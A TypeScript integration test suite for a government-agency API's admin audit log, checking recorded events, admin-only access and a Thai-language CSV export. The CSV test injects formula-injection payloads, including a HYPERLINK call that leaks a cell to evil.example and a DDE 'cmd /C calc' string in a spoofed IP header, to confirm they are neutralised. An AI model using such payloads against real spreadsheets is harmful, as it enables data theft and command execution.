import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { Client } from "../helpers/client";
import { createAgency, ensureTerms, signIn, unique } from "../helpers/fixtures";
import { applicant, approvalLink, decide, me, submit } from "../helpers/flow-approval";
import { ADMIN_EMAIL, signInAdmin } from "../helpers/auth-db";

interface AuditEvent {
  id: string;
  at: string;
  actor: string;
  action: string;
  subject: string;
  detail: Record<string, unknown>;
  ip: string | null;
}

let admin: Client;
beforeAll(async () => {
  admin = await signInAdmin();
});

/** Every event, newest first, read a page at a time as a client of the paged API does. */
async function auditLog(query = ""): Promise<AuditEvent[]> {
  const events: AuditEvent[] = [];
  let cursor: string | undefined;
  do {
    const res = await admin.fetch(`/api/v1/admin/audit?limit=100${query}${cursor ? `&cursor=${cursor}` : ""}`);
    expect(res.status, await res.clone().text()).toBe(200);
    const page = (await res.json()) as { events: AuditEvent[]; nextCursor?: string };
    events.push(...page.events);
    cursor = page.nextCursor;
  } while (cursor);
  return events;
}

/** Events about one subject, oldest first. */
async function historyOf(subject: string): Promise<AuditEvent[]> {
  return (await auditLog()).filter((e) => e.subject === subject).reverse();
}

describe("the audit log", () => {
  it("records sign-up, sign-in and terms acceptance with the actor and IP", async () => {
    const agency = await createAgency();
    const who = await applicant(agency);
    const { user } = await me(who.client);
    const again = await signIn(who.email, who.name);
    const history = await historyOf(`user:${user.id}`);
    expect(history.map((e) => e.action)).toEqual([
      "user.signed_up",
      "user.signed_in",
      "terms.accepted",
      "user.signed_in",
    ]);
    for (const e of history) expect(e.actor).toBe(who.email);
    expect(history.slice(0, 3).map((e) => e.ip)).toEqual([who.client.ip, who.client.ip, who.client.ip]);
    expect(history[3]!.ip).toBe(again.ip);
    expect(history[2]!.detail).toMatchObject({
      version: expect.any(String),
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
  });

  it("records every application and membership transition and every key action, admin actions with actor, IP and reason", async () => {
    const agency = await createAgency({ reviewRequired: true });
    const who = await applicant(agency);
    const app = await submit(who, agency.id);
    const executive = `executive:${agency.executiveEmail}`;
    expect((await decide(await approvalLink(agency.executiveEmail!), "approve")).status).toBe(200);
    const returnReason = `ขาดหนังสือมอบหมาย missing-letter-${unique()}`;
    expect(
      (await admin.json("POST", `/api/v1/admin/applications/${app.id}/return`, { reason: returnReason })).status,
    ).toBe(200);
    expect((await who.client.json("POST", `/api/v1/applications/${app.id}/resubmit`, {})).status).toBe(200);
    expect((await decide(await approvalLink(agency.executiveEmail!), "approve")).status).toBe(200);
    expect((await admin.json("POST", `/api/v1/admin/applications/${app.id}/approve`, {})).status).toBe(200);
    const created = (await (
      await who.client.json("POST", "/api/v1/keys", { name: "publish", scopes: ["read", "publish"] })
    ).json()) as { key: { id: string } };
    expect((await who.client.json("POST", `/api/v1/keys/${created.key.id}/rotate`, { graceSeconds: 60 })).status).toBe(
      201,
    );
    expect((await who.client.fetch(`/api/v1/keys/${created.key.id}`, { method: "DELETE" })).status).toBe(204);
    const [role] = (await me(who.client)).roles;
    const revokeReason = `สิ้นสุดการมอบหมาย end-of-assignment-${unique()}`;
    expect(
      (await admin.json("POST", `/api/v1/admin/memberships/${role!.membershipId}/revoke`, { reason: revokeReason }))
        .status,
    ).toBe(200);

    const appHistory = await historyOf(`application:${app.id}`);
    expect(appHistory.map((e) => [e.action, e.actor])).toEqual([
      ["application.submitted", who.email],
      ["application.executive_endorsed", executive],
      ["application.admin_returned", `admin:${ADMIN_EMAIL}`],
      ["application.resubmitted", who.email],
      ["application.executive_endorsed", executive],
      ["application.admin_approved", `admin:${ADMIN_EMAIL}`],
      ["application.first_key_issued", who.email],
    ]);
    const returned = appHistory[2]!;
    expect(returned.ip).toBe(admin.ip);
    expect(returned.detail).toMatchObject({ from: "awaiting_review", to: "returned", reason: returnReason });
    expect(appHistory[5]!.ip).toBe(admin.ip);

    expect((await historyOf(`key:${created.key.id}`)).map((e) => [e.action, e.actor])).toEqual([
      ["key.created", who.email],
      ["key.rotated", who.email],
      ["key.deleted", who.email],
    ]);
    const membership = await historyOf(`membership:${role!.membershipId}`);
    expect(membership.map((e) => [e.action, e.actor])).toEqual([
      ["membership.granted", "system"],
      ["membership.revoked", `admin:${ADMIN_EMAIL}`],
    ]);
    expect(membership[1]!.ip).toBe(admin.ip);
    expect(membership[1]!.detail).toMatchObject({ reason: revokeReason });
  });

  it("records the administrator confirming an approver, the executive rejecting and the applicant withdrawing", async () => {
    const agency = await createAgency({ executive: false });
    const first = await submit(await applicant(agency), agency.id);
    const approver = `chief-${unique()}@${agency.domain}`;
    expect(
      (
        await admin.json("POST", `/api/v1/admin/applications/${first.id}/approver`, {
          name: "หัวหน้า",
          position: "อธิบดี",
          email: approver,
        })
      ).status,
    ).toBe(200);
    expect((await decide(await approvalLink(approver), "reject", "ไม่ใช่เจ้าหน้าที่")).status).toBe(200);
    const confirmed = await historyOf(`application:${first.id}`);
    expect(confirmed.map((e) => [e.action, e.actor])).toEqual([
      ["application.submitted", first.applicant.email],
      ["application.approver_confirmed", `admin:${ADMIN_EMAIL}`],
      ["application.executive_rejected", `executive:${approver}`],
    ]);
    expect(confirmed[1]!.ip).toBe(admin.ip);
    expect(confirmed[2]!.detail).toMatchObject({ reason: "ไม่ใช่เจ้าหน้าที่" });

    const other = await createAgency();
    const who = await applicant(other);
    const second = await submit(who, other.id);
    expect((await who.client.json("POST", `/api/v1/applications/${second.id}/withdraw`)).status).toBe(200);
    expect((await historyOf(`application:${second.id}`)).map((e) => e.action)).toEqual([
      "application.submitted",
      "application.withdrawn",
    ]);
  });

  it("lists events newest first and only for administrators", async () => {
    await applicant(await createAgency());
    const events = await auditLog();
    expect(events.length).toBeGreaterThan(3);
    const times = events.map((e) => Date.parse(e.at));
    expect(times).toEqual([...times].sort((a, b) => b - a));
    const who = await applicant(await createAgency());
    const denied = await who.client.fetch("/api/v1/admin/audit");
    expect(denied.status).toBe(403);
    expect(((await denied.json()) as { code: string }).code).toBe("forbidden");
    const [newest] = await auditLog();
    expect(newest).toMatchObject({ action: "terms.accepted", actor: who.email });
  });
});

describe("the audit log as CSV", () => {
  it("is text/csv and neutralises cells that begin with =, +, - or @", async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    const agency = await createAgency({ reviewRequired: true });
    const who = await applicant(agency, { name: formula });
    const app = await submit(who, agency.id, { reason: formula });
    expect((await decide(await approvalLink(agency.executiveEmail!), "approve")).status).toBe(200);
    const dashActor = `-${unique("cmd")}@mail.go.th`;
    const plusActor = `+${unique("sum")}@mail.go.th`;
    const dash = await signIn(dashActor);
    await signIn(plusActor);
    const atIp = "@SUM(1+1)*cmd|' /C calc'!A0";
    expect(
      (await dash.json("POST", "/api/v1/terms/accept", { version: await ensureTerms() }, { "cf-connecting-ip": atIp }))
        .status,
    ).toBe(200);
    const returnedRes = await admin.json(
      "POST",
      `/api/v1/admin/applications/${app.id}/return`,
      { reason: formula },
      { "cf-connecting-ip": formula },
    );
    expect(returnedRes.status).toBe(200);

    const res = await admin.fetch("/api/v1/admin/audit?format=csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)], "a UTF-8 byte-order mark first (Excel on Windows)").toEqual([0xef, 0xbb, 0xbf]);
    const table = parse(new TextDecoder().decode(bytes), { bom: true, record_delimiter: "\r\n" }) as string[][];
    expect(table[0]).toEqual([
      "เวลา (กรุงเทพฯ)",
      "เวลา (UTC)",
      "ผู้ดำเนินการ",
      "เหตุการณ์",
      "รหัสเหตุการณ์",
      "เรื่อง",
      "รายละเอียด",
      "IP",
      "รหัสบันทึก",
    ]);
    const cells = table.flat();
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    expect(table.slice(1).every((row) => row.length === table[0]!.length)).toBe(true);

    const COLUMNS: Record<string, string> = {
      actor: "ผู้ดำเนินการ",
      action: "รหัสเหตุการณ์",
      subject: "เรื่อง",
      detail: "รายละเอียด",
      ip: "IP",
    };
    const column = (name: string) => table[0]!.indexOf(COLUMNS[name]!);
    const actors = table.map((r) => r[column("actor")]!);
    expect(actors.some((a) => a !== dashActor && a.endsWith(dashActor))).toBe(true);
    expect(actors.some((a) => a !== plusActor && a.endsWith(plusActor))).toBe(true);
    const returned = table.find(
      (r) => r[column("action")] === "application.admin_returned" && r[column("subject")] === `application:${app.id}`,
    );
    expect(returned, "the return with a spoofed IP is audited").toBeDefined();
    const termsRow = table.find(
      (r) => r[column("action")] === "terms.accepted" && r[column("actor")]!.endsWith(dashActor),
    );
    const neutralised = [
      [returned![column("ip")], formula],
      [termsRow?.[column("ip")], atIp],
    ];
    for (const [cell, original] of neutralised) {
      expect(cell).not.toBe(original);
      expect(cell?.endsWith(original!)).toBe(true);
    }
    expect(JSON.parse(returned![column("detail")]!)).toMatchObject({ reason: formula });
  });
});
